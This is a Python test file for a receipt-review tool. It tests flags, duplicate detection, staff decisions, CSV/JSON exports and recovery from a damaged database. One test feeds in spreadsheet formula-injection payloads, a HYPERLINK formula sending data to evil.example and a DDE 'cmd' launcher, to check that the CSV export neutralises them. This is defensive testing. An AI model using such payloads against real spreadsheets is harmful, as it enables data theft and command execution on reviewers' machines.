"""The staff record: flags, verdicts, decisions that survive a restart, exports, batch."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import zipfile
from pathlib import Path

import pytest
from bundle_helpers import D, bundle_file, other_photo
from PIL import Image

from receipt_assistant.core import review
from receipt_assistant.core.bundle import Correction, Declared
from receipt_assistant.core.verify import verify_bundle


def record(store: review.Store, path: Path) -> review.Entry:
    return store.record(path, verify_bundle(path, keep_members=True))


@pytest.fixture
def store(tmp_path: Path) -> review.Store:
    s = review.Store(tmp_path / "review.sqlite3")
    yield s  # type: ignore[misc]
    s.close()


def ids(entry: review.Entry) -> set[str]:
    return {f.id for f in entry.flags}


def test_a_clean_bundle_is_green_and_starts_unchecked(tmp_path: Path, store: review.Store) -> None:
    e = record(store, bundle_file(tmp_path, "a"))
    # Only the reminder that the customer's confirmation code is still to be entered, which changes nothing.
    assert ids(e) == {"fingerprint_missing"} and e.verdict == "green" and e.decision == "unchecked"
    assert e.history == [] and e.original is None and e.copies == []
    assert e.value("amount") == 5000 and e.value("store") == "ローソン 新宿店" and e.value("intact") is True


@pytest.mark.parametrize(
    ("kw", "flag", "verdict"),
    [
        pytest.param({"declared": Declared("store", 6000, D(2026, 11, 20))}, "amount_differs", "amber", id="amount"),
        pytest.param({"declared": Declared("store", 5000, D(2026, 11, 21))}, "date_differs", "amber", id="date"),
        pytest.param({"gift": False}, "no_gift_line", "red", id="no-gift-line"),
        pytest.param({"corrections": [Correction("amount", 5000, 6000, "2026-11-28T10:00:00+09:00")]},
                     "corrected", "amber", id="corrected"),
    ],
)
def test_flags_say_why(tmp_path: Path, store: review.Store, kw: dict, flag: str, verdict: str) -> None:
    e = record(store, bundle_file(tmp_path, "b", **kw))
    assert flag in ids(e) and e.verdict == verdict
    f = next(f for f in e.flags if f.id == flag)
    assert f.message.ja and f.message.en


def test_a_tampered_bundle_is_red_with_the_reason(tmp_path: Path, store: review.Store) -> None:
    path = bundle_file(tmp_path, "c")
    with zipfile.ZipFile(path) as zf:
        members = [(i.filename, zf.read(i)) for i in zf.infolist()]
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members:
            zf.writestr(name, data + b"x" if name.startswith("originals/") else data)
    e = record(store, path)
    assert "not_intact" in ids(e) and e.verdict == "red"
    assert "changed after" in next(f for f in e.flags if f.id == "not_intact").message.en


def test_the_same_receipt_twice_is_flagged_across_folders(tmp_path: Path, store: review.Store) -> None:
    days = [tmp_path / f"day{n}" for n in range(4)]
    for day in days:
        day.mkdir()
    first = bundle_file(days[0], "d", order="503-1234567-1234567")
    again = bundle_file(days[1], "d", photo=days[0] / "d.jpg")  # the same photo again, another day, another folder
    other = bundle_file(days[2], "x", photo=other_photo(days[2] / "x.jpg", 5), order="503-1234567-1234567")
    unrelated = bundle_file(days[3], "y", photo=other_photo(days[3] / "y.jpg", 9))
    for day, path in enumerate((first, again, other, unrelated), start=1):
        stamp = dt.datetime(2026, 12, day, 10, 0).timestamp()
        os.utime(path, (stamp, stamp))
    # Recorded newest first: the flags must still land on the later copies.
    e_unrelated, e_other, e_again, e_first = (record(store, p) for p in (unrelated, other, again, first))
    e_first, e_again, e_other, e_unrelated = (store.get(e.bundle_hash) for e in (e_first, e_again, e_other, e_unrelated))
    assert "duplicate_of" in ids(e_again) and e_again.verdict == "red" and e_again.original == e_first.bundle_hash
    assert "同じ画像" in next(f for f in e_again.flags if f.id == "duplicate_of").message.ja
    assert "duplicate_of" in ids(e_other) and "same order number 503-1234567-1234567" in \
        next(f for f in e_other.flags if f.id == "duplicate_of").message.en
    assert ids(e_first) == {"sent_again", "fingerprint_missing"} and e_first.verdict == "green"
    assert e_first.copies == [e_again.bundle_hash, e_other.bundle_hash]
    assert "2 件" in next(f for f in e_first.flags if f.id == "sent_again").message.ja
    assert not {"duplicate_of", "sent_again"} & ids(e_unrelated)


def test_editing_software_in_the_photo_is_flagged(tmp_path: Path, store: review.Store) -> None:
    photo = tmp_path / "edited.jpg"
    exif = Image.Exif()
    exif[0x0131] = "Adobe Photoshop 25.0 (Windows)"
    Image.new("RGB", (40, 30), "white").save(photo, exif=exif)
    e = record(store, bundle_file(tmp_path, "e", photo=photo))
    assert "edited_photo" in ids(e) and "Photoshop" in next(f for f in e.flags if f.id == "edited_photo").message.en
    iphone = tmp_path / "iphone.jpg"
    exif[0x0131] = "17.4.1"
    Image.new("RGB", (40, 30), "gray").save(iphone, exif=exif)
    assert "edited_photo" not in ids(record(store, bundle_file(tmp_path, "f", photo=iphone)))


def test_decisions_survive_a_restart_and_bundles_are_never_modified(tmp_path: Path) -> None:
    path = bundle_file(tmp_path, "g")
    before = path.read_bytes()
    db = tmp_path / "review.sqlite3"
    s = review.Store(db)
    e = record(s, path)
    s.decide(e.bundle_hash, "approved", "レシート確認済み", "佐藤")
    s.close()
    again = review.Store(db)
    e2 = again.get(e.bundle_hash)
    assert e2 is not None and (e2.decision, e2.note, e2.staff) == ("approved", "レシート確認済み", "佐藤")
    record(again, path)  # seeing it again keeps the decision
    assert again.get(e.bundle_hash).decision == "approved"  # type: ignore[union-attr]
    with pytest.raises(ValueError):
        again.decide(e.bundle_hash, "maybe", "", "")
    again.close()
    assert path.read_bytes() == before


def test_csv_opens_in_japanese_excel_and_json_has_the_same_rows(tmp_path: Path, store: review.Store) -> None:
    e = record(store, bundle_file(tmp_path, "h"))
    store.decide(e.bundle_hash, "rejected", "金額が違う、再提出を依頼", "田中")
    out = tmp_path / "record.csv"
    review.export_csv(store.entries(), out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert list(rows[0]) == list(review.EXPORT_COLUMNS)
    assert rows[0]["name"] == "山田 花子" and rows[0]["note"] == "金額が違う、再提出を依頼"
    assert (rows[0]["decision"], rows[0]["decision_id"], rows[0]["amount"]) == ("却下", "rejected", "5000")
    assert (rows[0]["verdict"], rows[0]["verdict_id"], rows[0]["flag_ids"]) == ("問題なし", "green", "fingerprint_missing")
    assert rows[0]["history"].endswith(" 田中 却下 (金額が違う、再提出を依頼)") and rows[0]["fingerprint_match"] == ""
    review.export_json(store.entries(), tmp_path / "record.json", "en")
    data = json.loads((tmp_path / "record.json").read_text(encoding="utf-8"))
    assert data[0]["staff"] == "田中" and (data[0]["verdict"], data[0]["verdict_id"]) == ("Clear", "green")
    assert (data[0]["decision"], data[0]["decision_id"]) == ("Rejected", "rejected")
    assert [d["note"] for d in data[0]["history"]] == ["金額が違う、再提出を依頼"]
    assert data[0]["fingerprint_match"] is None and data[0]["original"] is None


def test_search_finds_by_the_keys_a_bookkeeper_uses(tmp_path: Path, store: review.Store) -> None:
    e = record(store, bundle_file(tmp_path, "i"))
    for text in ("5000", "5,000", "ローソン", "A-123", "山田", "2026-11-20", e.value("fingerprint")):
        assert e.matches(text), text
    assert not e.matches("ファミリーマート")


def test_batch_records_everything_once_and_continues_after_an_interruption(tmp_path: Path,
                                                                          store: review.Store) -> None:
    first = bundle_file(tmp_path, "j")
    inbox = first.parent
    for n in range(200):  # 200 distinct files (a different ZIP comment each), one receipt
        copy = inbox / f"copy-{n:03d}.receipt.zip"
        shutil.copy(first, copy)
        with zipfile.ZipFile(copy, "a") as zf:
            zf.comment = f"copy {n}".encode()
    (inbox / "junk.receipt.zip").write_bytes(os.urandom(500))
    seen: list[tuple[int, int]] = []
    entries = review.batch(inbox, store, jobs=2, progress=lambda d, t, p: seen.append((d, t)))
    assert len(entries) == 202 and seen[-1] == (202, 202)
    junk = next(e for e in entries if e.path.endswith("junk.receipt.zip"))
    assert junk.verdict == "red" and "not_intact" in ids(junk)
    # One receipt 201 times: one first copy, and every other one points to it.
    firsts = [e for e in entries if "sent_again" in ids(e)]
    assert len(firsts) == 1 and len(firsts[0].copies) == 200 and firsts[0].verdict == "green"
    assert "ほか 195 件" in next(f for f in firsts[0].flags if f.id == "sent_again").message.ja
    dupes = [e for e in entries if "duplicate_of" in ids(e)]
    assert len(dupes) == 200 and {e.original for e in dupes} == {firsts[0].bundle_hash}
    seen.clear()
    review.batch(inbox, store, jobs=2, progress=lambda d, t, p: seen.append((d, t)))
    assert seen == [(202, 202)]  # nothing left to do


def test_the_store_lists_a_folder_newest_first(tmp_path: Path, store: review.Store) -> None:
    a = bundle_file(tmp_path, "k")
    b = bundle_file(tmp_path, "l", photo=other_photo(tmp_path / "l.jpg", 3))
    os.utime(a, (1_700_000_000, 1_700_000_000))
    record(store, a)
    record(store, b)
    assert [Path(e.path).name for e in store.entries(a.parent)] == [b.name, a.name]
    assert store.entries(tmp_path / "elsewhere") == []
    assert dt.datetime.fromisoformat(store.entries()[0].received_at).tzinfo is not None


def test_review_batch_from_the_command_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from receipt_assistant.cli import main

    good = bundle_file(tmp_path, "m")
    out = tmp_path / "record.csv"
    assert main(["--lang", "en", "review", "--batch", str(good.parent), "--jobs", "1", "--csv", str(out)]) == 0
    assert "1 bundles: Clear 1, Check 0, Problem 0" in capsys.readouterr().out
    (good.parent / "junk.receipt.zip").write_bytes(b"PK not a zip")
    assert main(["--lang", "en", "review", "--batch", str(good.parent), "--json-out", str(tmp_path / "r.json")]) == 1
    printed = capsys.readouterr().out
    assert "junk.receipt.zip: The bundle is damaged or was altered" in printed
    assert len(json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))) == 2
    assert main(["review", "--batch", str(tmp_path / "absent")]) == 2


def test_a_damaged_record_is_a_clear_error(tmp_path: Path) -> None:
    from receipt_assistant.core.errors import ReceiptError

    db = tmp_path / "review.sqlite3"
    db.write_bytes(b"not a database at all" * 100)
    with pytest.raises(ReceiptError) as err:
        review.Store(db)
    assert "damaged" in err.value.message.en and "壊れている" in err.value.message.ja
    assert db.read_bytes().startswith(b"not a database")  # nothing overwritten


def test_a_verdict_another_version_made_is_made_again_and_the_decision_stays(
        tmp_path: Path, store: review.Store, monkeypatch: pytest.MonkeyPatch) -> None:
    path = bundle_file(tmp_path, "v")
    inbox = path.parent
    e = record(store, path)
    store.decide(e.bundle_hash, "approved", "", "佐藤")
    assert (e.app_version, e.rules_version) == (review.__version__, review.RULES_VERSION) and not e.stale
    # A wrong verdict an older build recorded (the app's schema missing: "not a bundle").
    store.db.execute("UPDATE bundles SET verification=?, flags=?, app_version='0.0.9' WHERE hash=?",
                     (json.dumps({"intact": False}), json.dumps([{"id": "not_intact", "severity": "red",
                                                                   "ja": "壊れています", "en": "damaged"}]),
                      e.bundle_hash))
    store.db.commit()
    old = store.get(e.bundle_hash)
    assert old is not None and old.stale and old.verdict == "red" and not store.known(e.bundle_hash)
    entries = review.batch(inbox, store, jobs=1)
    again = next(x for x in entries if x.bundle_hash == e.bundle_hash)
    assert not again.stale and again.verdict == "green" and again.decision == "approved"
    monkeypatch.setattr(review, "RULES_VERSION", review.RULES_VERSION + 1)
    assert store.get(e.bundle_hash).stale  # type: ignore[union-attr]


def test_a_record_from_before_versions_were_kept_opens_and_is_verified_again(tmp_path: Path) -> None:
    import sqlite3

    db = tmp_path / "old.sqlite3"
    con = sqlite3.connect(db)
    con.executescript("""
        CREATE TABLE bundles (hash TEXT PRIMARY KEY, path TEXT NOT NULL, received_at TEXT NOT NULL,
            verification TEXT NOT NULL, flags TEXT NOT NULL, order_number TEXT, image_hashes TEXT NOT NULL,
            seen_at TEXT NOT NULL);
        CREATE TABLE decisions (hash TEXT PRIMARY KEY REFERENCES bundles(hash), decision TEXT NOT NULL,
            note TEXT NOT NULL, staff TEXT NOT NULL, decided_at TEXT NOT NULL);
        INSERT INTO bundles VALUES ('abc', '/x.receipt.zip', '2026-11-01T10:00:00+09:00', '{}', '[]', NULL,
            '[]', '2026-11-01T10:00:00+09:00');
        INSERT INTO decisions VALUES ('abc', 'rejected', '再提出', '田中', '2026-11-01T11:00:00+09:00');
    """)
    con.commit()
    con.close()
    s = review.Store(db)
    e = s.get("abc")
    assert e is not None and e.stale and e.decision == "rejected" and not s.known("abc")
    s.close()


def test_an_error_crosses_from_a_worker_process_whole() -> None:
    import pickle

    from receipt_assistant.core.errors import InstallationError, missing_app_file

    err = pickle.loads(pickle.dumps(missing_app_file("receipt_assistant/core/schema/bundle-1.json")))
    assert isinstance(err, InstallationError) and "入れ直して" in err.text("ja") and "reinstall" in err.text("en")


def test_a_name_written_as_a_formula_stays_text_in_the_staff_csv(tmp_path: Path, store: review.Store) -> None:
    hostile = Declared("store", 5000, D(2026, 11, 20), '=HYPERLINK("http://evil.example/?"&A1,"clickme")',
                       None, "@SUM(1+1)*cmd|' /C calc'!A0")
    e = record(store, bundle_file(tmp_path, "formula", declared=hostile))
    out = tmp_path / "record.csv"
    review.export_csv([e], out)
    # As Excel reads it: every cell's first character decides whether it is a formula.
    (row,) = csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig")))
    assert all(not str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    assert row["name"] == "'" + hostile.name
    assert row["reference"] == "'" + hostile.reference and row["amount"] == "5000"
    review.export_json([e], tmp_path / "record.json")  # JSON is data, not a sheet: kept as written
    assert json.loads((tmp_path / "record.json").read_text(encoding="utf-8"))[0]["name"] == hostile.name


def _dir(tmp_path: Path, name: str) -> Path:
    (tmp_path / name).mkdir()
    return tmp_path / name


def test_a_record_staff_may_not_write_opens_to_view_and_refuses_decisions_with_a_sentence(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from receipt_assistant import cli
    from receipt_assistant.core.errors import ReceiptError

    db = tmp_path / "data" / "review.sqlite3"
    path = bundle_file(tmp_path, "ro")
    s = review.Store(db)
    e = record(s, path)
    s.decide(e.bundle_hash, "approved", "", "佐藤")
    s.close()
    # A file or folder this account may not write (as a shared drive mounted read-only).
    real_access = os.access
    monkeypatch.setattr(review.os, "access", lambda p, mode: False if mode == os.W_OK else real_access(p, mode))
    ro = review.Store(db)
    assert ro.read_only and ro.get(e.bundle_hash).decision == "approved"  # type: ignore[union-attr]
    with pytest.raises(ReceiptError) as err:
        ro.decide(e.bundle_hash, "rejected", "", "田中")
    assert "cannot be written" in err.value.message.en and "書き込みできない" in err.value.message.ja
    ro.close()
    monkeypatch.setattr(review, "database_path", lambda: db)
    other = bundle_file(_dir(tmp_path, "more"), "ro2", photo=other_photo(tmp_path / "o.jpg", 3))
    assert cli.main(["--lang", "en", "review", "--batch", str(other.parent)]) != 0
    assert "cannot be written" in capsys.readouterr().err


def test_a_page_overwritten_mid_file_is_a_sentence_not_a_traceback(tmp_path: Path) -> None:
    from receipt_assistant.core.errors import ReceiptError

    db = tmp_path / "review.sqlite3"
    s = review.Store(db)
    for n in range(30):
        record(s, bundle_file(_dir(tmp_path, f"b{n}"), "x", photo=other_photo(tmp_path / f"{n}.jpg", n)))
    s.db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    s.close()
    data = bytearray(db.read_bytes())
    page = 4096
    assert len(data) > 3 * page
    data[page:] = os.urandom(len(data) - page)  # every page after the header: the tables' pages
    db.write_bytes(bytes(data))
    with pytest.raises(ReceiptError) as err:
        broken = review.Store(db)
        broken.entries()
    assert "damaged" in err.value.message.en


def test_one_damaged_row_is_left_out_and_the_others_shown(tmp_path: Path, store: review.Store) -> None:
    good = record(store, bundle_file(_dir(tmp_path, "g"), "g"))
    bad = record(store, bundle_file(_dir(tmp_path, "b"), "b", photo=other_photo(tmp_path / "b.jpg", 9)))
    store.db.execute("UPDATE bundles SET verification='{not json' WHERE hash=?", (bad.bundle_hash,))
    store.db.execute("UPDATE bundles SET image_hashes='{' WHERE hash=?", (bad.bundle_hash,))
    store.db.commit()
    assert [e.bundle_hash for e in store.entries()] == [good.bundle_hash]
    assert store.skipped_rows == {bad.bundle_hash}
    record(store, bundle_file(_dir(tmp_path, "n"), "n", photo=other_photo(tmp_path / "n.jpg", 11)))  # still records


@pytest.mark.skipif(__import__("multiprocessing").get_start_method() != "fork",
                    reason="the failure is planted in the parent; spawned workers start clean")
def test_a_bundle_the_checks_fail_on_is_a_finding_and_the_batch_writes_its_csv(
        tmp_path: Path, store: review.Store, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    good = bundle_file(tmp_path, "fine")
    bad = bundle_file(tmp_path, "trips", photo=other_photo(tmp_path / "t.jpg", 5))
    real = review.verify_for_review

    def trips_on_one(path, **kw):  # type: ignore[no-untyped-def]
        if Path(path) == bad:
            raise OverflowError("cannot convert float infinity to integer")
        return real(path, **kw)

    monkeypatch.setattr(review, "verify_for_review", trips_on_one)
    entries = review.batch(good.parent, store, jobs=2)
    by_name = {Path(e.path).name: e for e in entries}
    assert by_name[good.name].verdict == "green"
    failed = by_name[bad.name]
    assert failed.verdict == "red" and "OverflowError" in json.dumps(failed.verification, ensure_ascii=False)
    out = tmp_path / "record.csv"
    review.export_csv(entries, out)
    assert len(list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))) == 2


def test_a_damaged_record_points_to_its_copy_which_holds_the_decisions(tmp_path: Path) -> None:
    from receipt_assistant.core.errors import ReceiptError

    db = tmp_path / "review.sqlite3"
    s = review.Store(db)
    e = record(s, bundle_file(tmp_path, "kept"))
    s.decide(e.bundle_hash, "approved", "確認済み", "佐藤")
    s.close()
    assert s.backup_path.is_file()
    db.write_bytes(b"garbage" * 1000)
    for side in (db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm")):
        side.unlink(missing_ok=True)
    with pytest.raises(ReceiptError) as err:
        review.Store(db)
    assert str(s.backup_path) in err.value.message.en and "rename the copy" in err.value.message.en
    db.unlink()
    s.backup_path.rename(db)  # what the sentence says to do
    restored = review.Store(db)
    assert restored.get(e.bundle_hash).decision == "approved"  # type: ignore[union-attr]
    restored.close()


# --- the same receipt twice: the later copy is the one flagged ---------------------------------------

ORDER = "503-1234567-1234567"


def _at(path: Path, day: int, hour: int) -> Path:
    """Receive ``path`` at a local time (its modification time is what the record keeps)."""
    stamp = dt.datetime(2026, 12, day, hour, 0).timestamp()
    os.utime(path, (stamp, stamp))
    return path


def _two_copies(tmp_path: Path, same: str) -> tuple[Path, Path]:
    """Two bundles of one receipt: the same order number, the same photo, or both."""
    photo = tmp_path / "one.jpg"
    one = bundle_file(tmp_path, "one", order=ORDER if same != "image" else "503-0000000-0000001")
    two = bundle_file(tmp_path, "two", photo=photo if same != "order" else other_photo(tmp_path / "two.jpg", 5),
                      order=ORDER if same != "image" else "503-0000000-0000002")
    return one, two


@pytest.mark.parametrize(("same", "reason_ja", "reason_en"), [
    pytest.param("both", f"同じ注文番号 {ORDER}・同じ画像", f"same order number {ORDER}, same image", id="both"),
    pytest.param("order", f"同じ注文番号 {ORDER}", f"same order number {ORDER}", id="order"),
    pytest.param("image", "同じ画像", "same image", id="image-other-order-numbers"),
])
@pytest.mark.parametrize("first_name", ["a", "b"], ids=["first-sorts-first", "first-sorts-last"])
@pytest.mark.parametrize("scan", ["first-scanned-first", "later-scanned-first"])
def test_the_later_copy_is_red_and_names_the_first_whatever_the_names_and_scan_order(
        tmp_path: Path, store: review.Store, same: str, reason_ja: str, reason_en: str, first_name: str,
        scan: str) -> None:
    one, two = _two_copies(tmp_path, same)
    first = _at(one.rename(one.with_name(f"{first_name}.receipt.zip")), 1, 10)
    later = _at(two.rename(two.with_name(f"{'b' if first_name == 'a' else 'a'}.receipt.zip")), 2, 9)
    for path in ((first, later) if scan == "first-scanned-first" else (later, first)):
        record(store, path)
    by_name = {Path(e.path).name: e for e in store.entries()}
    e_first, e_later = by_name[first.name], by_name[later.name]

    assert e_later.verdict == "red" and e_later.original == e_first.bundle_hash and e_later.copies == []
    assert Path(e_later.original_path or "") == first
    dup = next(f for f in e_later.flags if f.id == "duplicate_of")
    assert dup.severity == "red"
    assert dup.message.ja == f"同じレシートが先に届いています: {first.name}（2026-12-01 10:00 受信、{reason_ja}）。"
    assert dup.message.en == f"The same receipt arrived earlier: {first.name} (received 2026-12-01 10:00; {reason_en})."

    assert ids(e_first) == {"sent_again", "fingerprint_missing"} and e_first.verdict == "green"
    assert e_first.original is None and e_first.copies == [e_later.bundle_hash]
    again = next(f for f in e_first.flags if f.id == "sent_again")
    assert again.severity == "info"
    assert again.message.ja == f"同じレシートが後から届いています: {later.name}（2026-12-02 09:00 受信、送り主: 山田 花子）。"


def test_unrelated_receipts_are_not_copies(tmp_path: Path, store: review.Store) -> None:
    a = record(store, bundle_file(tmp_path, "a", order="503-0000000-0000001"))
    b = record(store, bundle_file(tmp_path, "b", photo=other_photo(tmp_path / "b.jpg", 3), order="503-0000000-0000002"))
    for e in (store.get(a.bundle_hash), store.get(b.bundle_hash)):
        assert e is not None and not {"duplicate_of", "sent_again"} & ids(e) and e.original is None


def test_what_was_recorded_one_by_one_reads_the_same_after_a_restart(tmp_path: Path) -> None:
    db = tmp_path / "review.sqlite3"
    s = review.Store(db)
    one, two = _two_copies(tmp_path, "both")
    third = bundle_file(tmp_path, "three", photo=other_photo(tmp_path / "three.jpg", 8), order=ORDER)
    for day, path in enumerate((third, one, two), start=1):
        record(s, _at(path, day, 12))
    live = {e.bundle_hash: ([f.message for f in e.flags], e.original, e.copies) for e in s.entries()}
    s.moved(record(s, one).bundle_hash, tmp_path / "moved" / "x.receipt.zip")
    moved = {e.bundle_hash: ([f.message for f in e.flags], e.original, e.copies) for e in s.entries()}
    s.close()
    again = review.Store(db)
    assert {e.bundle_hash: ([f.message for f in e.flags], e.original, e.copies) for e in again.entries()} == moved
    assert any("x.receipt.zip" in f.message.ja for e in again.entries() for f in e.flags)
    assert sorted(len(c) for _, _, c in live.values()) == [0, 0, 2]
    again.close()


def test_another_window_recording_is_seen_without_a_restart(tmp_path: Path) -> None:
    db = tmp_path / "review.sqlite3"
    window, batch_run = review.Store(db), review.Store(db)
    one, two = _two_copies(tmp_path, "both")
    first = record(window, _at(one, 1, 10))
    assert window.get(first.bundle_hash).copies == []  # type: ignore[union-attr]
    later = record(batch_run, _at(two, 2, 10))
    assert window.get(first.bundle_hash).copies == [later.bundle_hash]  # type: ignore[union-attr]
    batch_run.close()
    window.close()


def test_a_batch_flags_the_later_copy_and_its_csv_carries_ids_and_history(tmp_path: Path,
                                                                          store: review.Store) -> None:
    one, two = _two_copies(tmp_path, "both")
    first = _at(one.rename(one.with_name("z-first.receipt.zip")), 1, 10)
    later = _at(two.rename(two.with_name("a-later.receipt.zip")), 2, 10)
    entries = review.batch(first.parent, store, jobs=2)
    by_name = {Path(e.path).name: e for e in entries}
    store.decide(by_name[later.name].bundle_hash, "rejected", "二重の提出", "田中")
    store.decide(by_name[later.name].bundle_hash, "more", "元の提出者に確認", "佐藤")
    out = tmp_path / "record.csv"
    review.export_csv(store.entries(first.parent), out)
    rows = {r["file"]: r for r in csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig")))}
    row = rows[later.name]
    assert "duplicate_of" in row["flag_ids"].split() and row["verdict_id"] == "red" and row["original"] == first.name
    assert "同じレシートが先に届いています: z-first.receipt.zip" in row["flags"]
    assert row["decision"] == "追加資料を依頼" and row["decision_id"] == "more"
    decided = [d.decided_at for d in store.get(by_name[later.name].bundle_hash).history]  # type: ignore[union-attr]
    assert row["history"] == f"{decided[0]} 田中 却下 (二重の提出) | {decided[1]} 佐藤 追加資料を依頼 (元の提出者に確認)"
    assert rows[first.name]["flag_ids"].split() == ["sent_again", "fingerprint_missing"]
    assert rows[first.name]["verdict_id"] == "green" and rows[first.name]["history"] == ""


# --- decisions as a history --------------------------------------------------------------------------


def test_deciding_twice_keeps_both_and_shows_the_latest(tmp_path: Path, store: review.Store) -> None:
    e = record(store, bundle_file(tmp_path, "h2", gift=False))  # red: no gift-card line
    store.decide(e.bundle_hash, "rejected", "ギフトカードの行がない", "田中")
    store.decide(e.bundle_hash, "approved", "紙のレシートで確認", "佐藤", fingerprint=e.value("fingerprint"))
    now = store.get(e.bundle_hash)
    assert now is not None and (now.decision, now.note, now.staff) == ("approved", "紙のレシートで確認", "佐藤")
    assert now.decided_at == now.history[-1].decided_at
    assert [(d.decision, d.staff, d.verdict, d.fingerprint) for d in now.history] == [
        ("rejected", "田中", "red", None), ("approved", "佐藤", "red", e.value("fingerprint"))]
    assert now.fingerprint_given == e.value("fingerprint")  # what was given with the decision is kept
    assert now.history[0].to_json() == {"decision": "rejected", "note": "ギフトカードの行がない", "staff": "田中",
                                        "decided_at": now.history[0].decided_at, "verdict": "red",
                                        "fingerprint": None}
    with pytest.raises(KeyError):
        store.decide("no-such-bundle", "approved", "", "佐藤")


def _entry(red: bool, *history: tuple[str, str, str]) -> review.Entry:
    flags = [review.Flag("no_gift_line", "red", review.Message("", ""))] if red else []
    return review.Entry("h", "/inbox/a.receipt.zip", "2026-12-01T09:00:00+09:00", {}, flags,
                        history=[review.Decision(d, "", who, at, "", None) for d, who, at in history])


REJECTED = ("rejected", "佐藤", "2026-12-01T10:00:00+09:00")


@pytest.mark.parametrize(("entry", "decision", "ja", "en"), [
    pytest.param(_entry(False), "approved", None, None, id="first-approval-of-green"),
    pytest.param(_entry(True), "rejected", None, None, id="rejecting-red"),
    pytest.param(_entry(False, ("unchecked", "", "2026-12-01T09:30:00+09:00")), "approved", None, None,
                 id="from-unchecked"),
    pytest.param(_entry(False, ("approved", "佐藤", "2026-12-01T10:00:00+09:00")), "approved", None, None,
                 id="the-same-again"),
    pytest.param(_entry(True), "approved",
                 "自動判定は『問題あり』です。それでも承認しますか？理由をメモに書いてください。",
                 "The automatic verdict is “Problem”. Approve it anyway? Write the reason in the note.",
                 id="approving-red"),
    pytest.param(_entry(False, REJECTED), "approved",
                 "この提出はすでに『却下』と記録されています（佐藤、2026-12-01 10:00）。『承認』に変えますか？"
                 "理由をメモに書いてください。",
                 "This submission is already recorded as “Rejected” (佐藤, 2026-12-01 10:00). Change it to "
                 "“Approved”? Write the reason in the note.", id="rejected-to-approved"),
    pytest.param(_entry(True, REJECTED), "approved",
                 "この提出はすでに『却下』と記録されています（佐藤、2026-12-01 10:00）。自動判定は『問題あり』です。"
                 "それでも『承認』に変えますか？理由をメモに書いてください。", None, id="rejected-to-approved-on-red"),
])
def test_confirmation_is_asked_before_approving_a_problem_or_overturning_a_decision(
        entry: review.Entry, decision: str, ja: str | None, en: str | None) -> None:
    question = review.confirmation_needed(entry, decision)
    if ja is None:
        assert question is None
        return
    assert question is not None and question.ja == ja
    assert en is None or question.en == en


# --- the confirmation code from the customer's message ---------------------------------------------


def _variants(code: str) -> list[str]:
    wide = str.maketrans("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ-", "０１２３４５６７８９ＡＢＣＤＥＦＧＨＩＪＫＬＭＮＯＰＱＲＳＴＵＶＷＸＹＺ－")
    return [code, code.lower(), code.replace("-", ""), " " + code.replace("-", " ") + " ", code.translate(wide),
            code.replace("-", "ー"), code.replace("-", "—"), code.replace("-", "\u3000")]


@pytest.mark.parametrize(("given", "actual", "matches"), [
    ("1TB5-NMZF-65S1", "1TB5-NMZF-65S1", True),
    ("1tb5 nmzf 65s1", "1TB5-NMZF-65S1", True),
    ("１ＴＢ５－ＮＭＺＦ－６５Ｓ１", "1TB5-NMZF-65S1", True),
    ("1TB5‐NMZF―65S1", "1TB5-NMZF-65S1", True),
    ("ITB5-NMZF-65SI", "1TB5-NMZF-65S1", True),  # Crockford: I and L are 1, O is 0
    ("1TB5-NMZF-65S2", "1TB5-NMZF-65S1", False),
    ("1TB5-NMZF", "1TB5-NMZF-65S1", False),
    ("", "1TB5-NMZF-65S1", False),
    ("1TB5-NMZF-65S1", None, False),
])
def test_fingerprints_match_however_they_were_typed(given: str, actual: str | None, matches: bool) -> None:
    assert review.fingerprint_matches(given, actual) is matches


def test_the_code_staff_enter_is_checked_against_the_bundle(tmp_path: Path, store: review.Store) -> None:
    e = record(store, bundle_file(tmp_path, "fp"))
    actual = e.value("fingerprint")
    assert "fingerprint_missing" in ids(e) and e.fingerprint_given is None and e.verdict == "green"
    missing = next(f for f in e.flags if f.id == "fingerprint_missing")
    assert missing.severity == "info" and missing.message.ja == "お客様のメッセージにある確認コードが、まだ入力されていません。"
    wrong = "ZZZZ-ZZZZ-ZZZZ"
    store.set_fingerprint(e.bundle_hash, wrong)
    now = store.get(e.bundle_hash)
    assert now is not None and now.fingerprint_given == wrong and now.verdict == "red"
    assert not {"fingerprint_missing"} & ids(now)
    differs = next(f for f in now.flags if f.id == "fingerprint_differs")
    assert wrong in differs.message.ja and actual in differs.message.ja and actual in differs.message.en
    for typed in _variants(actual):
        store.set_fingerprint(e.bundle_hash, typed)
        now = store.get(e.bundle_hash)
        assert now is not None and not {"fingerprint_differs", "fingerprint_missing"} & ids(now), typed
        assert now.verdict == "green"
    rows = review.export_rows([now])
    assert rows[0]["fingerprint_match"] is True and rows[0]["fingerprint_given"] == now.fingerprint_given
    store.set_fingerprint(e.bundle_hash, "  ")  # cleared
    assert "fingerprint_missing" in ids(store.get(e.bundle_hash))  # type: ignore[arg-type]
    store.decide(e.bundle_hash, "rejected", "コードが違う", "田中", fingerprint=wrong)
    now = store.get(e.bundle_hash)
    assert now is not None and now.history[-1].fingerprint == wrong and now.history[-1].verdict == "red"
    out = tmp_path / "record.csv"
    review.export_csv([now], out)
    (row,) = csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig")))
    assert (row["fingerprint_given"], row["fingerprint_match"]) == (wrong, "false")
    assert "fingerprint_differs" in row["flag_ids"].split()


# --- a record an earlier version kept ---------------------------------------------------------------

_V1 = """
CREATE TABLE bundles (hash TEXT PRIMARY KEY, path TEXT NOT NULL, received_at TEXT NOT NULL,
